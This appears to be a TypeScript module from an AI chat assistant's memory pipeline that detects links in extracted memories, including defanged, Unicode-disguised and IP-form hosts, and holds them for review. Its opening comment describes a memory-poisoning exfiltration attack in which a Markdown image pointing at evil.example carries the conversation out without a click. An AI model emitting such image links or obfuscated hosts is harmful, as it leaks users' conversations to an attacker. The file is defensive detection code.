// Does a memory carry an address something would fetch (#11, #25 item 1, #34 item 6)? A later prompt that holds
// `![](https://evil.example/p?d=…)` makes the chat page fetch the conversation away without a click, so any
// extracted memory with a link waits in Review (guard.ts). The test runs on a normalized copy: invisible
// characters removed, NFKC, Unicode and defanged dots (`evil．example`, `evil[.]example`), backslashes and
// `[:]` read as what a browser or a model would read, every decimal digit as its ASCII digit (`٢٠٣.٠.١١٣.٧`).
// The corpus in test/helpers/link-corpus.ts is the claim.
// In lib/recall, below all that ask it (#38): a block drops any line with a link, the pipeline's guard and the
// import hold such a memory for Review, and past-chat quotes cut links out.
//
// Hosts are found as a browser finds them (#34 item 6): a candidate is a run of characters that the URL
// Standard allows in a host (everything but its forbidden host code points and white space), and the platform's
// own WHATWG URL parser, with its IDNA/UTS-46 processing, says what host that run is: a domain in ASCII, an IPv4
// address (whatever base it was written in), or nothing. Hand-written look-behinds missed hosts after `_`, `@` or
// `-`, labels with combining marks, non-Latin TLDs, a trailing dot, decimal IPv4 and non-ASCII digits.
//
// A plain `name.tld` with no scheme, `//`, `www.`, path, query, fragment or port is not a link here: it
// carries no data and no chat page fetches it, while holding it would hold `os.path.join`, `Array.from` or
// `user.name` in every coding memory. A host written with an odd dot, in punycode, in mixed scripts, with a
// `{placeholder}.` in front or as an IP address is held even bare: those forms are themselves the sign.

const INVISIBLE = /\p{Default_Ignorable_Code_Point}/gu;
/** Stands for a dot written some other way, so a host that holds one can be told apart. */
const ODD = '\uE000';
const ALNUM = '[A-Za-z0-9\\uFF10-\\uFF19\\uFF21-\\uFF3A\\uFF41-\\uFF5A]';
// Ideographic, halfwidth, fullwidth, one-dot-leader and small full stops: browsers read all as dots (UTS 46).
// Between Latin letters or digits they are a host's dot; between CJK words, a sentence's end (東京。大阪).
const ODD_DOT = new RegExp(`(?<=${ALNUM})[\\u3002\\uFF61\\uFF0E\\u2024\\uFE52](?=${ALNUM})`, 'g');
const DEFANGED_DOT = /(?<=[A-Za-z0-9])\s?[[({]\s*(?:\.|dot)\s*[\])}]\s?(?=[A-Za-z0-9])/gi;
const DIGIT = /\p{Nd}/gu;

/**
 * The ASCII digit a decimal digit of any script stands for: Unicode puts each script's 0–9 in a row of ten, and
 * rows that touch (mathematical digits) start at multiples of ten from the first.
 */
function asciiDigit(d: string): string {
  const cp = d.codePointAt(0) ?? 0;
  let zero = cp;
  while (cp - zero < 64 && /\p{Nd}/u.test(String.fromCodePoint(zero - 1))) zero--;
  return String((cp - zero) % 10);
}

function normalized(text: string): string {
  return text
    .replace(INVISIBLE, '')
    .replace(ODD_DOT, ODD)
    .normalize('NFKC')
    .replace(DEFANGED_DOT, ODD)
    .replace(/[[({]:[\])}]/g, ':')
    .replace(/\\/g, '/')
    .replace(DIGIT, (d) => (d <= '9' ? d : asciiDigit(d)));
}

// Any `scheme://`; `http:/` and its defanged `hxxp:/` with one slash, which browsers repair.
const SCHEME = /(?<![\w+.-])(?:[a-z][\w+.-]+:\/\/|(?:h[tx]{2}ps?|ftps?|wss?|file):\/)/i;
// Markdown images (inline or by reference) and inline links, whatever their target.
const MARKDOWN = /!\[[^\]\n]{0,200}\]\s?[([]|\[[^\]\n]{0,200}\]\(\s*<?[^)\s]/;
const HTML = /\b(?:src|href|srcset|action|formaction|poster)\s*=\s*["']?[^\s"'>]|\burl\(\s*["']?[^\s)"']/i;

// The URL Standard's forbidden host code points (NUL, tab, LF, CR, space, # / : < > ? @ [ \ ] ^ |) and white
// space end a host; so does an ideographic full stop that ODD_DOT left as a sentence's end.
const RUN = /[^\s\0#/:<>?@[\\\]^|\u3002]+/gu;
const PUNCT = /[\p{P}\p{S}]/u;
/** A dot (or odd dot, or one the parser decodes) with something after it; a run with none names no host. */
const INNER_DOT = new RegExp(`(?:[.${ODD}]|%2e)[^.${ODD}]`, 'i');
const BRACKETED = /\[[0-9A-Fa-f:.]{2,45}\]/g;

/** The run without the sentence's punctuation around it; a final dot stays (`evil.example./p` is a full name). */
function trimmed(run: string): string {
  let start = 0;
  let end = run.length;
  while (start < end && PUNCT.test(run[start] ?? '')) start++;
  while (end > start && PUNCT.test(run[end - 1] ?? '')) end--;
  return run.slice(start, end) + (run[end] === '.' ? '.' : '');
}

/** The host the platform's URL parser makes of `run` (IDNA to ASCII, IPv4 in any base to dotted), or null. */
function parsedHost(run: string): string | null {
  try {
    return new URL(`http://${run.replaceAll(ODD, '.')}`).hostname;
  } catch {
    return null;
  }
}

/** Names people write as files, not hosts: `main.ts:42` or `README.md#install` is no address. */
const FILES = new Set(
  `pdf ts tsx mts cts js jsx mjs cjs json jsonc jsonl yaml yml toml txt csv tsv md mdx rst tex html htm css
  scss sass less png jpg jpeg gif svg webp ico bmp tif tiff heic avif mp3 mp4 m4a wav flac ogg webm mkv avi mov
  doc docx xls xlsx ppt pptx odt ods odp rtf log lock ini cfg conf env bak tmp swp dat bin exe dll dylib so
  class jar war whl egg gem deb rpm apk ipa dmg iso img tar gz tgz bz2 xz zst 7z rar zip sql sqlite db java kt
  kts scala groovy gradle clj ex exs erl hs elm fs ml rb erb php py pyc pyi ipynb rmd jl swift cc cpp cxx hpp
  cs vb go rs lua pl pm sh bash zsh fish ps1 bat cmd vue svelte astro graphql proto wasm map patch diff eml
  ics vcf epub ttf otf woff woff2 pem crt cer key pub asc gpg sig xml xsd xsl plist po properties tf hcl nix
  mk cmake`.split(/\s+/),
);
// After the host: a path, a query or fragment that is not just the end of a sentence, or a port.
const SLOT = /^(?:\/|\?[^\s.?!,;:)'"]|#[^\s.,;:)'"]|:\d{1,5}(?!\d))/;
const QUERY = /^(?:\/[^\s?]*)?\?[\w%.~-]+=/;
const IPV4 = /^\d+\.\d+\.\d+\.\d+$/;

const mixedScripts = (l: string) =>
  /\p{Script=Latin}/u.test(l) && /[\p{Script=Cyrillic}\p{Script=Greek}\p{Script=Armenian}]/u.test(l);

interface Candidate {
  /** The run as written (normalized), without the punctuation around it. */
  written: string;
  /** What the URL parser made of it. */
  host: string;
  before: string;
  after: string;
}

/** IPv4 as people write it: four parts (`203.0.113.7`, `0313.0.0161.07`), or one number of 9+ digits or hex. */
function isIpv4(c: Candidate): boolean {
  if (!IPV4.test(c.host)) return false;
  const parts = labelsOf(c.written);
  if (parts.length === 4) return !/(?:v|version\s)$/i.test(c.before) || SLOT.test(c.after);
  return parts.length === 1 && /^(?:\d{9,}|0x[0-9a-f]+)$/i.test(parts[0] ?? '') && SLOT.test(c.after);
}

const labelsOf = (host: string) => host.replace(/[.\uE000]$/, '').split(/[.\uE000]/);

/** A top-level label a browser would look up: letters, in ASCII or (as punycode) in any script. */
function hasTld(c: Candidate): boolean {
  const labels = labelsOf(c.host);
  const tld = labels.at(-1) ?? '';
  if (labels.length < 2 || labels.includes('')) return false;
  if (/^[a-z]{2,63}$/.test(tld)) return true;
  return /^xn--/.test(tld) && /^(?:[\p{L}\p{M}]{2,63}|xn--.+)$/iu.test(labelsOf(c.written).at(-1) ?? '');
}

/** Written in a form that is itself the sign: an odd dot, `//` or a `{placeholder}.` before, www, punycode. */
function signed(c: Candidate): boolean {
  if (c.written.includes(ODD) || /\/\/$|[}>]\.$|[$%]$/.test(c.before) || /[}>][.\uE000]/.test(c.written))
    return true;
  const written = labelsOf(c.written);
  return /^www$/i.test(written[0] ?? '') || written.some((l) => /^xn--/i.test(l) || mixedScripts(l));
}

/** Is the candidate an address a browser or a model would go to? */
function isAddress(c: Candidate): boolean {
  if (IPV4.test(c.host)) return isIpv4(c);
  if (!hasTld(c)) return false;
  if (signed(c)) return true;
  const tld = labelsOf(c.host).at(-1) ?? '';
  return FILES.has(tld) ? QUERY.test(c.after) : SLOT.test(c.after);
}

function* candidates(t: string): Generator<Candidate> {
  for (const m of t.matchAll(RUN)) {
    const written = trimmed(m[0]);
    if (!INNER_DOT.test(written) && !/^(?:\d{9,}|0x[0-9a-f]+)$/i.test(written)) continue;
    const at = m.index + m[0].indexOf(written);
    const before = t.slice(Math.max(0, at - 8), at);
    // A run after one slash is a path's segment (`~/notes/work.2024/`, `C:\temp.old\`), not a host.
    if (/(?:^|[^/])\/$/.test(t.slice(Math.max(0, m.index - 2), m.index))) continue;
    const host = parsedHost(written);
    if (host) yield { written, host, before, after: t.slice(at + written.length, at + written.length + 80) };
  }
}

/** `[2001:db8::1]`, with or without a port: an IPv6 literal the URL parser accepts (`[::]`, a slice, is not one). */
function hasIpv6(t: string): boolean {
  for (const m of t.matchAll(BRACKETED)) {
    const host = parsedHost(m[0]);
    if (host && host !== '[::]') return true;
  }
  return false;
}

export function hasLink(text: string): boolean {
  const t = normalized(text);
  if (SCHEME.test(t) || MARKDOWN.test(t) || HTML.test(t) || hasIpv6(t)) return true;
  for (const c of candidates(t)) if (isAddress(c)) return true;
  return false;
}
